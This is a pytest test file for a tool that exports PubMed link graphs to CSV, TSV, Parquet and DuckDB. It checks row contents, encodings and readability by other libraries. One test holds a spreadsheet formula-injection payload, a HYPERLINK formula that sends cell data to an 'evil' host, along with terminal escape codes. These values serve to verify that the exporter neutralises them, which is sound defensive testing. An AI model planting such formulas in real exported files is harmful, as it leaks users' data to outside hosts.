"""csv, tsv, parquet and duckdb, read by other libraries, hold exactly the links of the graph."""

from __future__ import annotations

import csv
import gzip
import io
from typing import TYPE_CHECKING, Any

import duckdb
import fastparquet
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from support.finished_harvests import PMIDS, make_harvest, pubmed_harvest, rows_of, true_links
from support.harness import LINKS

from harvester.api.export import export
from harvester.export.text import inert, texts
from harvester.model.row_schemas import link_schema

if TYPE_CHECKING:
    from pathlib import Path

Rows = list[tuple[Any, ...]]


def _read_text(text: str, separator: str) -> Rows:
    header, *lines = csv.reader(io.StringIO(text), delimiter=separator)
    assert header == LINKS.names
    return sorted(
        [(a, int(b), c, d, int(e), int(f) if f else None, int(g)) for a, b, c, d, e, f, g in lines],
        key=repr,
    )


@pytest.mark.parametrize("form", ["parquet", "jsonl"])
@pytest.mark.parametrize("suffix", ["csv", "tsv", "csv.gz", "tsv.gz"])
def test_text_holds_the_links(tmp_path: Path, suffix: str, form: str) -> None:
    out, to = pubmed_harvest(tmp_path / "out", form=form), tmp_path / f"links.{suffix}"
    export(out, suffix[:3], to)
    data = to.read_bytes()
    text = (gzip.decompress(data) if suffix.endswith("gz") else data).decode()
    assert _read_text(text, "," if suffix.startswith("csv") else "\t") == rows_of(true_links())
    assert [path.name for path in tmp_path.iterdir() if path != out] == [to.name]


def test_parquet_is_sorted_and_has_plain_encodings(tmp_path: Path) -> None:
    to = tmp_path / "links.parquet"
    export(pubmed_harvest(tmp_path / "out"), "parquet", to)
    file = pq.ParquetFile(to)
    assert rows_of(file.read()) == rows_of(true_links())
    froms = file.read()["from_uid"].to_pylist()
    assert froms == sorted(froms)
    group = file.metadata.row_group(0)
    columns = [group.column(number) for number in range(group.num_columns)]
    assert {column.compression for column in columns} == {"ZSTD"}
    known = {"PLAIN", "PLAIN_DICTIONARY", "RLE_DICTIONARY", "RLE"}
    assert {one for column in columns for one in column.encodings} <= known
    assert file.metadata.format_version == "1.0"


def test_parquet_is_read_by_other_readers(tmp_path: Path) -> None:
    to = tmp_path / "links.parquet"
    export(pubmed_harvest(tmp_path / "out"), "parquet", to)
    expected = true_links()
    found = duckdb.from_parquet(str(to)).to_arrow_table()
    assert rows_of(found) == rows_of(expected)
    with to.open("rb") as stream:
        frame = fastparquet.ParquetFile(stream).to_pandas()
    pairs = zip(frame["from_uid"], frame["linkname"], frame["to_uid"], strict=True)
    assert sorted(pairs) == sorted(
        (row["from_uid"], row["linkname"], row["to_uid"]) for row in expected.to_pylist()
    )


def test_duckdb_holds_links_uids_nodes_and_edges(tmp_path: Path) -> None:
    to, expected = tmp_path / "links.duckdb", true_links()
    export(pubmed_harvest(tmp_path / "out", failed=PMIDS[:2]), "duckdb", to)
    kept = expected.filter(pa.array([u not in PMIDS[:2] for u in expected["from_uid"].to_pylist()]))
    with duckdb.connect(str(to), read_only=True) as database:
        links = database.sql("FROM links").to_arrow_table()
        assert rows_of(links) == rows_of(kept)
        outcomes = dict(database.sql("SELECT from_uid, outcome FROM uids").fetchall())
        nodes = set(database.sql("SELECT db, uid FROM nodes").fetchall())
        ids = {one for (one,) in database.sql("SELECT id FROM nodes").fetchall()}
        edges = database.sql("SELECT source, target, linkname FROM edges").fetchall()
        unanswered = database.sql("SELECT from_uid, reason FROM unanswered").fetchall()
    froms = set(kept["from_uid"].to_pylist())
    assert outcomes == {
        uid: "failed" if uid in PMIDS[:2] else "linked" if uid in froms else "empty"
        for uid in PMIDS
    }
    ends = {(row["dbto"], row["to_uid"]) for row in kept.to_pylist()}
    assert nodes == ends | {("pubmed", uid) for uid in PMIDS}
    assert len(ids) == len(nodes)
    assert ids == {f"{db}:{uid}" for db, uid in nodes}
    assert sorted(edges) == sorted(
        (f"pubmed:{r['from_uid']}", f"{r['dbto']}:{r['to_uid']}", r["linkname"])
        for r in kept.to_pylist()
    )
    assert sorted(unanswered) == [(uid, "HTTP 500") for uid in PMIDS[:2]]


HOSTILE = '=HYPERLINK("http://evil/?"&A1)'
URLS = [
    {
        "dbfrom": "pubmed", "from_uid": 1, "url": "http://a/?x=1,2", "iconurl": None,
        "linkname": "a\tb", "subject_types": ["one", "two"], "categories": [],
        "attributes": None, "provider_name": HOSTILE, "provider_abbr": "\x1b[31m red\nnext",
        "provider_id": "-1", "provider_url": "plain",
    },
]  # fmt: skip


@pytest.mark.parametrize(("form", "separator"), [("csv", ","), ("tsv", "\t")])
def test_hostile_texts_are_inert_in_text(tmp_path: Path, form: str, separator: str) -> None:
    schema = link_schema("llinks")
    plain = pa.Table.from_pylist(URLS, schema.set(0, schema.field(0).with_type(pa.string())))
    out = make_harvest(tmp_path / "out", plain, [1, 2], cmd="llinks")
    to = tmp_path / f"links.{form}"
    export(out, form, to)
    (row,) = csv.DictReader(io.StringIO(to.read_text()), delimiter=separator)
    assert row["provider_name"] == f"'{HOSTILE}"
    assert row["provider_abbr"] == " [31m red next"
    assert row["provider_id"] == "'-1"
    assert row["linkname"] == "a b"
    assert row["subject_types"] == "one;two"
    assert (row["attributes"], row["iconurl"]) == ("", "")
    assert row["url"] == "http://a/?x=1,2"


@pytest.mark.parametrize("start", ["=1", " =1", "\t-1", "\u00a0+1", "\uff1d1", "\uff201"])
def test_what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(start: str) -> None:
    (found,) = inert(texts(pa.array([start]))).to_pylist()
    assert found == f"'{start}".replace("\t", " ")
    for harmless in ("", " ", "a=1", "1-1", "\u05e9\u05dc\u05d5\u05dd"):
        assert inert(texts(pa.array([harmless]))).to_pylist() == [harmless]


@pytest.mark.parametrize("form", ["csv", "tsv", "parquet", "duckdb"])
def test_an_empty_harvest_makes_an_empty_table(tmp_path: Path, form: str) -> None:
    out = make_harvest(tmp_path / "out", LINKS.empty_table(), [1, 2, 3])
    to = tmp_path / f"links.{form}"
    assert export(out, form, to) == 0
    source = "links" if form == "duckdb" else f"'{to}'"
    with duckdb.connect(str(to) if form == "duckdb" else ":memory:") as database:
        found = database.sql(f"FROM {source}")
        assert found.columns == LINKS.names
        assert found.fetchall() == []
